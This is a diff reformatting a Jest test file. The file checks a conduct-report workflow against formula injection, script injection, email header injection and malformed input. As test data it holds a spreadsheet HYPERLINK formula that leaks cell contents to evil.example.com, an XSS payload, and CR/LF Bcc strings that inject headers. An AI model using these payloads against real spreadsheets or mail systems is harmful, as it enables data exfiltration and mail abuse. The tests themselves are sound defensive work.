@@ -1,12 +1,31 @@
 // Adversarial catalogue, part 1 (ADV-01…ADV-14): formula and HTML injection in every field, header injection in addresses and names, oversized and malformed input, blank and duplicate deliveries.
-import { ANA, BO, COMMITTEE_OPTIONS, CY, DEE, MODS, REPORT_ONE, SPACE, moderatorsAccepted, recommendationSent } from '../support/flows';
+import {
+  ANA,
+  BO,
+  COMMITTEE_OPTIONS,
+  CY,
+  DEE,
+  MODS,
+  REPORT_ONE,
+  SPACE,
+  moderatorsAccepted,
+  recommendationSent,
+} from '../support/flows';
 import { duplicateTrigger, Rehearsal } from '../support/rehearsal';
 
 jest.setTimeout(10 * 60 * 1000);
 
 const FORMULA = '=HYPERLINK("https://evil.example.com/?leak="&A1,"click")';
 const XSS = '<img src=x onerror=alert(1)><script>alert(2)</script>';
-const TEXT_ITEMS = ['Your name', 'Your email address', 'Who was involved?', 'When did it happen?', 'What happened?', 'Were there witnesses?', 'Anything else we should know?'];
+const TEXT_ITEMS = [
+  'Your name',
+  'Your email address',
+  'Who was involved?',
+  'When did it happen?',
+  'What happened?',
+  'Were there witnesses?',
+  'Anything else we should know?',
+];
 
 function start(): Rehearsal {
   return Rehearsal.start(COMMITTEE_OPTIONS);
@@ -18,12 +37,22 @@ function allCells(r: Rehearsal, spreadsheetId: string): string[] {
 }
 
 function formulaCells(r: Rehearsal): string[] {
-  return [r.ids.status, r.ids.registry].flatMap((id) => r.ws.data.sheets(id).flatMap((s) => s.formulas.flat().filter(Boolean).map((f) => `${s.name}: ${f}`)));
+  return [r.ids.status, r.ids.registry].flatMap((id) =>
+    r.ws.data.sheets(id).flatMap((s) =>
+      s.formulas
+        .flat()
+        .filter(Boolean)
+        .map((f) => `${s.name}: ${f}`),
+    ),
+  );
 }
 
 /** Everything that went out as HTML: every mail's HTML body. */
 function htmlOut(r: Rehearsal): string {
-  return r.ws.mail().map((m) => m.htmlBody).join('\n');
+  return r.ws
+    .mail()
+    .map((m) => m.htmlBody)
+    .join('\n');
 }
 
 describe('adversarial: injection, headers and malformed input', () => {
@@ -67,8 +96,10 @@ describe('adversarial: injection, headers and malformed input', () => {
     r.report(REPORT_ONE.answers, REPORT_ONE.people);
     for (const m of [ANA, CY, DEE]) expect(r.respond(m.email, 1, 'no-conflict').ok).toBe(true);
     r.writeTexts(ANA.email, 1, {
-      plan: `${FORMULA}\n${XSS}`, consequences: `@SUM(1) ${XSS}`,
-      letter: `${XSS} in a public channel.\nImpact: ${FORMULA}`, followUp: `${XSS} Thank you.`,
+      plan: `${FORMULA}\n${XSS}`,
+      consequences: `@SUM(1) ${XSS}`,
+      letter: `${XSS} in a public channel.\nImpact: ${FORMULA}`,
+      followUp: `${XSS} Thank you.`,
     });
     expect(r.openVote(ANA.email, 1).ok).toBe(true);
     const votePage = r.ws.webGet(r.link(CY.email, 'vote', 1)?.url ?? '').body;
@@ -82,7 +113,7 @@ describe('adversarial: injection, headers and malformed input', () => {
     expect(formulaCells(r)).toEqual([]);
   });
 
-  it('ADV-04 a moderator\'s disagreement with injected HTML is stored verbatim and shown escaped', () => {
+  it("ADV-04 a moderator's disagreement with injected HTML is stored verbatim and shown escaped", () => {
     const r = start();
     recommendationSent(r);
     expect(r.moderatorReply(MODS[0], 1, 'disagree', `${XSS} ${FORMULA}`).ok).toBe(true);
@@ -93,7 +124,7 @@ describe('adversarial: injection, headers and malformed input', () => {
     expect(formulaCells(r)).toEqual([]);
   });
 
-  it('ADV-05 a formula or a script as the letter\'s address is refused and nothing is sent', () => {
+  it("ADV-05 a formula or a script as the letter's address is refused and nothing is sent", () => {
     const r = start();
     moderatorsAccepted(r);
     const mailBefore = r.ws.mail().length;
@@ -101,7 +132,12 @@ describe('adversarial: injection, headers and malformed input', () => {
       const result = r.sendLetter(ANA.email, 1, to);
       expect(result.ok).toBe(false);
     }
-    expect(r.ws.mail().slice(mailBefore).filter((m) => /reviewed a report about your behavior/i.test(m.body))).toHaveLength(0);
+    expect(
+      r.ws
+        .mail()
+        .slice(mailBefore)
+        .filter((m) => /reviewed a report about your behavior/i.test(m.body)),
+    ).toHaveLength(0);
     expect(r.registry('Outbox').some((o) => o.Kind === 'letter')).toBe(false);
   });
 
@@ -120,10 +156,13 @@ describe('adversarial: injection, headers and malformed input', () => {
     expect(r.registry('Cases')[0]['Reporter Email']).toBe('');
   });
 
-  it('ADV-07 header injection through the reporter\'s name reaches no subject, recipient or header', () => {
+  it("ADV-07 header injection through the reporter's name reaches no subject, recipient or header", () => {
     const r = start();
     const name = 'Rita\r\nBcc: evil@example.com\r\nSubject: You won';
-    r.report({ ...REPORT_ONE.answers, 'Your name': name }, { ...REPORT_ONE.people, reporter: { name: 'Rita', email: 'rita.quell@example.net' } });
+    r.report(
+      { ...REPORT_ONE.answers, 'Your name': name },
+      { ...REPORT_ONE.people, reporter: { name: 'Rita', email: 'rita.quell@example.net' } },
+    );
     expect(r.mailTo('evil@example.com')).toHaveLength(0);
     for (const m of r.ws.mail()) {
       expect(m.subject).not.toMatch(/[\r\n]|You won/);
@@ -135,16 +174,24 @@ describe('adversarial: injection, headers and malformed input', () => {
   it('ADV-08 a letter address carrying a second address, CR/LF or "Bcc:" is refused', () => {
     const r = start();
     moderatorsAccepted(r);
-    for (const to of ['sam@example.net\r\nBcc: evil@example.com', 'sam@example.net, evil@example.com', 'sam@example.net;evil@example.com', 'Sam <sam@example.net>, evil@example.com']) {
+    for (const to of [
+      'sam@example.net\r\nBcc: evil@example.com',
+      'sam@example.net, evil@example.com',
+      'sam@example.net;evil@example.com',
+      'Sam <sam@example.net>, evil@example.com',
+    ]) {
       expect(r.sendLetter(ANA.email, 1, to).ok).toBe(false);
     }
     expect(r.mailTo('evil@example.com')).toHaveLength(0);
     expect(r.registry('Outbox').some((o) => o.Kind === 'letter')).toBe(false);
   });
 
-  it('ADV-09 several addresses in the reporter\'s field get no acknowledgment (never a mail to a list)', () => {
+  it("ADV-09 several addresses in the reporter's field get no acknowledgment (never a mail to a list)", () => {
     const r = start();
-    r.report({ ...REPORT_ONE.answers, 'Your email address': 'one@example.net, two@example.net' }, { reporter: { email: 'one@example.net' } });
+    r.report(
+      { ...REPORT_ONE.answers, 'Your email address': 'one@example.net, two@example.net' },
+      { reporter: { email: 'one@example.net' } },
+    );
     expect(r.mailTo('one@example.net')).toHaveLength(0);
     expect(r.mailTo('two@example.net')).toHaveLength(0);
     expect(r.registry('Cases')[0]['Reporter Email Problem']).toBe('multiple');
@@ -154,7 +201,10 @@ describe('adversarial: injection, headers and malformed input', () => {
     const r = start();
     const huge = `${'A long account. '.repeat(6250)}`.slice(0, 100_000);
     expect(huge).toHaveLength(100_000);
-    const { kase } = r.report({ ...REPORT_ONE.answers, 'What happened?': huge, 'Who was involved?': `Sam Doe, ${'X'.repeat(5000)}` }, REPORT_ONE.people);
+    const { kase } = r.report(
+      { ...REPORT_ONE.answers, 'What happened?': huge, 'Who was involved?': `Sam Doe, ${'X'.repeat(5000)}` },
+      REPORT_ONE.people,
+    );
     expect(kase).not.toBeNull();
     for (const cell of allCells(r, r.ids.registry)) expect(cell.length).toBeLessThan(50_000);
     expect(r.docText(1)).toContain(huge.slice(0, 5000));
@@ -168,7 +218,10 @@ describe('adversarial: injection, headers and malformed input', () => {
     r.report({ ...REPORT_ONE.answers, 'Who was involved?': nasty, 'Your name': 'Rita\u202E Quell' }, REPORT_ONE.people);
     // eslint-disable-next-line no-control-regex
     const forbidden = /[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069]/;
-    const subjects = r.ws.mail().map((m) => m.subject).join('\n');
+    const subjects = r.ws
+      .mail()
+      .map((m) => m.subject)
+      .join('\n');
     expect(subjects).not.toMatch(forbidden);
     expect(allCells(r, r.ids.status).join('\n')).not.toMatch(forbidden);
     for (const d of r.ws.snapshot().docs) expect(d.title).toMatch(/^[a-z]+( [a-z]+)+$/);
@@ -180,7 +233,7 @@ describe('adversarial: injection, headers and malformed input', () => {
     const r = start();
     const many = Array.from({ length: 200 }, (_, i) => `Person Number${i}`).join(', ');
     r.report({ ...REPORT_ONE.answers, 'Who was involved?': many }, REPORT_ONE.people);
-    const screening = r.mailTo(BO.email).find((m) => /conflict of interest/i.test(m.subject)) ;
+    const screening = r.mailTo(BO.email).find((m) => /conflict of interest/i.test(m.subject));
     expect(screening).toBeDefined();
     const named = (screening?.body.match(/Person Number\d+/g) ?? []).length;
     expect(named).toBeGreaterThan(0);
